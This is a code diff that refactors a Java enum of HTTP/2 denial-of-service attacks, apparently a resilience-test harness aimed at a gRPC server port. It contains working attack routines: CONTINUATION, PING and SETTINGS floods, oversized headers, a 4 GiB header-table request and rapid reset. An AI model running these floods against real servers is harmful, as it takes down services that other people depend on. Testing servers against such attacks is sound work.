@@ -7,6 +7,7 @@ import java.io.IOException;
 import java.io.OutputStream;
 import java.net.Socket;
 import java.util.Random;
+import java.util.function.IntFunction;
 
 /** On the port of the gRPC API. */
 enum Http2Attack implements Attack {
@@ -20,9 +21,7 @@ enum Http2Attack implements Attack {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
       greet(out);
-      while (!target.isOver()) {
-        Target.pause(50);
-      }
+      target.awaitEnd();
     }
   },
   SLOW_MESSAGES(400) {
@@ -41,36 +40,26 @@ enum Http2Attack implements Attack {
   IDLE_CONNECTIONS(1) {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
-      HttpAttack.holdIdle(target);
+      target.holdIdle();
     }
   },
   CONTINUATION_FLOOD(4) {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
-      greet(out);
-      out.write(frame(HEADERS, 0, 1, request(0)));
-      for (int i = 0; i < 100_000; i++) {
-        out.write(frame(CONTINUATION, 0, 1, header("x-" + i, "v".repeat(random.nextInt(100)))));
-      }
+      continueHeaders(out, i -> header("x-" + i, "v".repeat(random.nextInt(100))));
     }
   },
   EMPTY_CONTINUATION_FLOOD(4) {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
-      greet(out);
-      out.write(frame(HEADERS, 0, 1, request(0)));
-      for (int i = 0; i < 100_000; i++) {
-        out.write(frame(CONTINUATION, 0, 1, new byte[0]));
-      }
+      continueHeaders(out, i -> new byte[0]);
     }
   },
   HUGE_HEADER(4) {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
       greet(out);
-      for (int stream = 1; stream < 2_000; stream += 2) {
-        out.write(frame(HEADERS, END_HEADERS, stream, request(15_000)));
-      }
+      openStreams(out, request(15_000));
     }
   },
   RAPID_RESET(4) {
@@ -87,21 +76,13 @@ enum Http2Attack implements Attack {
   PING_FLOOD(4) {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
-      greet(out);
-      for (int i = 0; i < 500_000; i++) {
-        out.write(frame(PING, 0, 0, new byte[8]));
-        pace(i);
-      }
+      repeat(out, frame(PING, 0, 0, new byte[8]));
     }
   },
   SETTINGS_FLOOD(4) {
     @Override
     void attack(Target target, OutputStream out, Random random) throws IOException {
-      greet(out);
-      for (int i = 0; i < 500_000; i++) {
-        out.write(frame(SETTINGS, 0, 0, new byte[0]));
-        pace(i);
-      }
+      repeat(out, frame(SETTINGS, 0, 0, new byte[0]));
     }
   },
   HUGE_HEADER_TABLE(4) {
@@ -111,9 +92,7 @@ enum Http2Attack implements Attack {
       // SETTINGS_HEADER_TABLE_SIZE of 4 GiB, and a table size update of as much in the block
       out.write(frame(SETTINGS, 0, 0, new byte[] {0, 1, -1, -1, -1, -1}));
       var update = new byte[] {0x3F, (byte) 0xE1, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, 0x0F};
-      for (int stream = 1; stream < 2_000; stream += 2) {
-        out.write(frame(HEADERS, END_HEADERS, stream, update));
-      }
+      openStreams(out, update);
     }
   },
   RANDOM_FRAMES(8) {
@@ -146,9 +125,7 @@ enum Http2Attack implements Attack {
           out.write(frame(DATA, 0, stream, new byte[16_000]));
         }
       }
-      while (!target.isOver()) {
-        Target.pause(50);
-      }
+      target.awaitEnd();
     }
   };
 
@@ -190,6 +167,32 @@ enum Http2Attack implements Attack {
   private static void pace(int frames) {
     if (frames % 50 == 0) {
       Target.pause(5);
+    }
+  }
+
+  /** Headers of one call without end. */
+  private static void continueHeaders(OutputStream out, IntFunction<byte[]> block)
+      throws IOException {
+    greet(out);
+    out.write(frame(HEADERS, 0, 1, request(0)));
+    for (int i = 0; i < 100_000; i++) {
+      out.write(frame(CONTINUATION, 0, 1, block.apply(i)));
+    }
+  }
+
+  /** Many calls, none of which is ever sent whole. */
+  private static void openStreams(OutputStream out, byte[] headers) throws IOException {
+    for (int stream = 1; stream < 2_000; stream += 2) {
+      out.write(frame(HEADERS, END_HEADERS, stream, headers));
+    }
+  }
+
+  /** A frame that asks for an answer, over and over. */
+  private static void repeat(OutputStream out, byte[] frame) throws IOException {
+    greet(out);
+    for (int i = 0; i < 500_000; i++) {
+      out.write(frame);
+      pace(i);
     }
   }
 
